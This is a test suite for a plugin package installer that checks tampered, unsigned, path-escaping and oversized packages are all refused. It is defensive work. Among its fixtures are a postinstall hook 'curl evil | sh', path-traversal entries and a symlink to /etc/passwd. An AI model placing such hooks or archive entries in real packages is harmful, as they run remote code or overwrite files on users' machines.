import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { installPackage, readTarball } from '../../core/src/packages/index.ts';
import { rawTarball, type RawEntry } from './raw-tarball.ts';
import { altered, Rig, type Widget } from './rig.ts';
import { signListed } from './sign-listed.ts';

let rig: Rig;
let before = '';
let tried = 0;
let refused = 0;

/** All that is installed: every file below the state folder but the history and the lock of the store, and the lock file. */
async function installed(): Promise<string> {
  const folder = join(rig.folder, 'state/packages');
  const entries = (await readdir(folder, { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile() && !/^(history\.jsonl|history-end\.json|\.busy.*)$/.test(entry.name));
  const files = await Promise.all(entries.map(async (entry) => `${join(entry.parentPath, entry.name)}\n${await readFile(join(entry.parentPath, entry.name), 'utf8')}`));
  return [...files.sort(), await rig.read('config/plugins.lock.yaml')].join('\n');
}

beforeAll(async () => {
  rig = await Rig.open();
  await rig.trust({ organization: { keys: [rig.organization.public] } });
  await installPackage(await rig.file(await whole()), rig.needs());
  before = await installed();
});
afterAll(async () => {
  await rig[Symbol.asyncDispose]();
  process.stdout.write(`tamper suite: ${tried} packages tried, ${refused} refused, the old version whole after each\n`);
});

/** A package that would be installed. */
async function whole(widget: Widget = {}): Promise<Buffer> {
  return rig.sign(await rig.signed(widget), rig.organization, { role: 'organization' });
}

async function requireRefused(code: string, bytes: Buffer): Promise<void> {
  tried += 1;
  await expect(installPackage(await rig.file(bytes), rig.needs())).rejects.toMatchObject({ code, hint: expect.stringMatching(/\w/) });
  expect(await installed()).toBe(before);
  refused += 1;
}

const newer = (): Promise<Buffer> => whole({ version: '1.1.0' });
const list = 'jackfield-files.json';
const signatures = 'jackfield-signatures.json';

describe('files that are not those that were signed', () => {
  test.each<[string, string, () => Promise<Buffer>]>([
    ['JF2205', 'the code is another', async () => altered(await newer(), { 'dist/plugin.js': 'export default 1;\n' })],
    ['JF2205', 'one letter of a script is another', async () => altered(await newer(), { 'gather.sh': 'uptimE\n' })],
    ['JF2205', 'the manifest asks for more', async () => altered(await newer(), { 'package.json': (text) => text.replace('"phase": "read"', '"phase": "write"') })],
    ['JF2206', 'a file was added', async () => altered(await newer(), { 'dist/more.js': '' })],
    ['JF2206', 'a package was added under node_modules', async () => altered(await newer(), { 'node_modules/left/index.js': '' })],
    ['JF2207', 'a file was removed', async () => altered(await newer(), { 'gather.sh': null })],
    ['JF2200', 'the list was removed', async () => altered(await newer(), { [list]: null })],
    ['JF2204', 'the list is not JSON', async () => altered(await newer(), { [list]: '{' })],
    ['JF2204', 'the list has an unknown key', async () => altered(await newer(), { [list]: (text) => text.replace('"format"', '"more": 1, "format"') })],
    ['JF2213', 'the list was written anew for another file', async () => {
      const evil = await rig.packed({ version: '1.1.0', script: 'reboot\n' });
      return altered(evil, { [signatures]: (await readTarball(await newer(), 'package')).get(signatures) ?? '' });
    }],
    ['JF2208', 'the list names another version', async () => altered(await newer(), { [list]: (text) => text.replace('1.1.0', '1.2.0') })],
    ['JF2200', 'package.json was removed from package and list', async () => altered(await newer(), { 'package.json': null, [list]: withoutEntry('package.json') })],
  ])('%s: %s', async (code, _what, make) => requireRefused(code, await make()));
});

/** The list without one of its files. */
function withoutEntry(path: string): (text: string) => string {
  return (text) => {
    const parsed: { files: { path: string }[] } = JSON.parse(text);
    return JSON.stringify({ ...parsed, files: parsed.files.filter((file) => file.path !== path) });
  };
}

describe('signatures that give no trust', () => {
  const edited = async (change: (signature: { [key: string]: unknown }, index: number) => object): Promise<Buffer> =>
    altered(await newer(), {
      [signatures]: (text) => {
        const parsed: { signatures: { [key: string]: unknown }[] } = JSON.parse(text);
        return JSON.stringify({ ...parsed, signatures: parsed.signatures.map(change) });
      },
    });
  test.each<[string, string, () => Promise<Buffer>]>([
    ['JF2210', 'none at all', () => rig.packed({ version: '1.1.0' })],
    ['JF2210', 'that of the organization alone', async () => rig.sign(await rig.packed({ version: '1.1.0' }), rig.organization, { role: 'organization' })],
    ['JF2211', 'of a stranger', async () => rig.signed({ version: '1.1.0' }, rig.stranger)],
    ['JF2212', 'of acme, for a package of another scope', async () => rig.signed({ version: '1.1.0', name: '@other/jackfield-plugin-gadget' })],
    ['JF2212', 'of acme, for a scope that begins the same', async () => rig.signed({ version: '1.1.0', name: '@acme-evil/jackfield-plugin-gadget' })],
    ['JF2214', 'no counter-signature', () => rig.signed({ version: '1.1.0' })],
    ['JF2212', 'a counter-signature of a stranger', async () => rig.sign(await rig.signed({ version: '1.1.0' }), rig.stranger, { role: 'organization' })],
    ['JF2212', 'a counter-signature of the publisher', async () => rig.sign(await rig.signed({ version: '1.1.0' }), rig.acme, { role: 'organization' })],
    ['JF2215', 'a counter-signature that expired', async () => rig.sign(await rig.signed({ version: '1.1.0' }), rig.organization, { role: 'organization', expires: new Date('2026-02-01') })],
    ['JF2215', 'a signature of the publisher that expired', async () => rig.sign(await rig.sign(await rig.packed({ version: '1.1.0' }), rig.acme, { expires: new Date('2026-02-01') }), rig.organization, { role: 'organization' })],
    ['JF2213', 'an expiry that was taken out', async () => {
      const expired = await rig.sign(await rig.signed({ version: '1.1.0' }), rig.organization, { role: 'organization', expires: new Date('2026-02-01') });
      return altered(expired, { [signatures]: (text) => text.replace(/"2026-02-01[^"]*"/, 'null') });
    }],
    ['JF2213', 'a counter-signature with another date', () => edited((one) => ({ ...one, at: '2026-03-01T00:00:00.000Z' }))],
    ['JF2213', "the publisher's as the organization's", () => edited((one) => ({ ...one, role: 'organization' }))],
    ['JF2213', 'the name of another key on it', () => edited((one) => ({ ...one, key: rig.stranger.public }))],
    ['JF2213', 'a key that is no point of the curve', () => edited((one) => ({ ...one, key: `ed25519:${'_'.repeat(43)}` }))],
    ['JF2213', 'an empty signature', () => edited((one) => ({ ...one, signature: '' }))],
    ['JF2216', 'signatures that are not JSON', async () => altered(await newer(), { [signatures]: 'signed' })],
    ['JF2216', 'more signatures than anybody reads', async () => altered(await newer(), { [signatures]: (text) => {
      const parsed: { signatures: unknown[] } = JSON.parse(text);
      return JSON.stringify({ format: 1, signatures: Array.from({ length: 1_000 }, () => parsed.signatures[0]) });
    } })],
  ])('%s: %s', async (code, _what, make) => requireRefused(code, await make()));
});

describe('archives that are none, or lead elsewhere', () => {
  const good: RawEntry = { path: 'package/package.json', content: '{}' };
  const entry = (more: RawEntry): Buffer => rawTarball([good, more]);
  test.each<[string, string, () => Buffer | Promise<Buffer>]>([
    ['JF2200', 'an empty file', () => Buffer.alloc(0)],
    ['JF2200', 'a file that is not gzip', () => Buffer.from('hello, this is not an archive')],
    ['JF2200', 'gzip of something else', () => gzipSync('hello'.repeat(200))],
    ['JF2200', 'gzip within gzip', async () => gzipSync(await newer())],
    ['JF2200', 'cut off at the half', async () => { const bytes = await newer(); return bytes.subarray(0, bytes.length / 2); }],
    ['JF2200', 'cut off one byte before its end', async () => (await newer()).subarray(0, -1)],
    ['JF2200', 'an archive cut off within a file', async () => gzipSync(gunzipSync(await newer()).subarray(0, 700))],
    ['JF2207', 'an archive cut off between files', async () => gzipSync(withoutLast(gunzipSync(await newer())))],
    ['JF2200', 'a damaged header', async () => { const archive = gunzipSync(await newer()); archive[110] = 0x37; return gzipSync(archive); }],
    ['JF2202', 'a path with ..', () => entry({ path: 'package/../../escaped', content: 'x' })],
    ['JF2202', 'a path with .. in the middle', () => entry({ path: 'package/dist/../../../escaped', content: 'x' })],
    ['JF2202', 'an absolute path', () => entry({ path: '/tmp/escaped', content: 'x' })],
    ['JF2202', 'an absolute path inside', () => entry({ path: 'package//tmp/escaped', content: 'x' })],
    ['JF2202', 'a drive', () => entry({ path: 'package/C:/escaped', content: 'x' })],
    ['JF2202', 'a backslash', () => entry({ path: String.raw`package/..\..\escaped`, content: 'x' })],
    ['JF2202', 'another top folder', () => entry({ path: 'other/file', content: 'x' })],
    ['JF2202', 'a dot as a name', () => entry({ path: 'package/./x', content: 'x' })],
    ['JF2202', 'a name that is written backwards', () => entry({ path: 'package/gpj.\u202egnp', content: 'x' })],
    ['JF2202', 'a line break in a name', () => entry({ path: 'package/a\nb', content: 'x' })],
    ['JF2202', 'a symbolic link', () => entry({ path: 'package/link', type: 'SymbolicLink', linkpath: '/etc/passwd' })],
    ['JF2202', 'a symbolic link that stays inside', () => entry({ path: 'package/link', type: 'SymbolicLink', linkpath: 'package.json' })],
    ['JF2202', 'a hard link', () => entry({ path: 'package/link', type: 'Link', linkpath: 'package/package.json' })],
    ['JF2202', 'a character device', () => entry({ path: 'package/null', type: 'CharacterDevice' })],
    ['JF2202', 'a block device', () => entry({ path: 'package/sda', type: 'BlockDevice' })],
    ['JF2202', 'a pipe', () => entry({ path: 'package/pipe', type: 'FIFO' })],
    ['JF2202', 'a folder that leads elsewhere', () => entry({ path: 'package/../x/', type: 'Directory' })],
    ['JF2202', 'a file that is in it twice', () => entry(good)],
    ['JF2203', 'two names that differ in case', () => entry({ path: 'package/Package.JSON', content: '{}' })],
    ['JF2203', 'two spellings of one letter', () => rawTarball([good, { path: 'package/é', content: '1' }, { path: 'package/e\u0301', content: '2' }])],
    ['JF2203', 'a file where a folder is needed', () => rawTarball([good, { path: 'package/a', content: '1' }, { path: 'package/A/b', content: '2' }])],
    ['JF2201', 'a bomb', () => gzipSync(Buffer.alloc(160 * 1_024 * 1_024))],
    ['JF2201', 'more files than anybody needs', () => rawTarball(Array.from({ length: 5_100 }, (_, index) => ({ path: `package/${index}`, content: '' })))],
    ['JF2201', 'a file that is too large as it is', () => Buffer.alloc(33 * 1_024 * 1_024)],
  ])('%s: %s', async (code, _what, make) => requireRefused(code, await make()));
});

/** Without the file before the end, and without the end. */
function withoutLast(archive: Buffer): Buffer {
  const at = archive.indexOf('package/package.json');
  return archive.subarray(0, at);
}

describe('packages that do not fit here', () => {
  test.each<[string, string, () => Promise<Buffer>]>([
    ['JF2003', 'made for another SDK', async () => resigned({ engines: { jackfield: '^7.0.0' } })],
    ['JF2002', 'a manifest that is not valid', async () => resigned({ jackfield: { title: 'Widget', contributes: {}, permisions: {} } })],
    ['JF2001', 'no manifest', async () => resigned({ jackfield: undefined })],
    ['JF2005', 'a manifest that names a file that is not there', async () => resigned({ jackfield: { title: 'Widget', contributes: { settings: 'schemas/none.json' } } })],
    ['JF2208', 'permissions that are not those of the list', async () => resigned({ jackfield: { title: 'Widget', contributes: { checks: { fans: { title: 'Fans' } } }, permissions: { icmp: true } } })],
    ['JF2208', 'a package that calls itself otherwise than its list', async () => resigned({ name: '@acme/jackfield-plugin-gadget' })],
    ['JF2209', 'a script at the installation', async () => resigned({ scripts: { postinstall: 'curl evil | sh' } })],
    ['JF2209', 'a script at the installation of what it carries', async () => relisted({ 'node_modules/left/package.json': '{"scripts":{"install":"node x"}}' })],
    ['JF2209', 'something to compile', async () => relisted({ 'binding.gyp': '{}' })],
    ['JF2220', 'the id of an installed plugin in another package', async () => whole({ version: '1.1.0', name: '@acme/plugin-widget' })],
    ['JF2222', 'an older version, not said to be meant', async () => whole({ version: '0.9.0' })],
    ['JF2223', 'the same version with other content', async () => whole({ script: 'uptime -p\n' })],
  ])('%s: %s', async (code, _what, make) => requireRefused(code, await make()));

  /** With other files, listed and signed as if they were right: what a publisher could do by mistake or on purpose. */
  async function relisted(files: { readonly [path: string]: string }): Promise<Buffer> {
    return signListed(rig, await rig.packed({ version: '1.1.0' }), files);
  }

  async function resigned(changes: object): Promise<Buffer> {
    const text = (await readTarball(await rig.packed({ version: '1.1.0' }), 'package')).get('package.json')?.toString('utf8') ?? '';
    return relisted({ 'package.json': JSON.stringify({ ...JSON.parse(text), ...changes }) });
  }
});

test('permissions that nobody granted keep the old version', async () => {
  const asking = await whole({ version: '1.1.0', permissions: { snmp: { read: true } } });
  await expect(installPackage(await rig.file(asking), rig.needs({ consent: async () => false }))).rejects.toMatchObject({ code: 'JF2225' });
  expect(await installed()).toBe(before);
});

test('the same package, not tampered with, is installed', async () => {
  expect(await installPackage(await rig.file(await newer()), rig.needs())).toMatchObject({ outcome: 'installed', version: '1.1.0', kept: '1.0.0' });
});
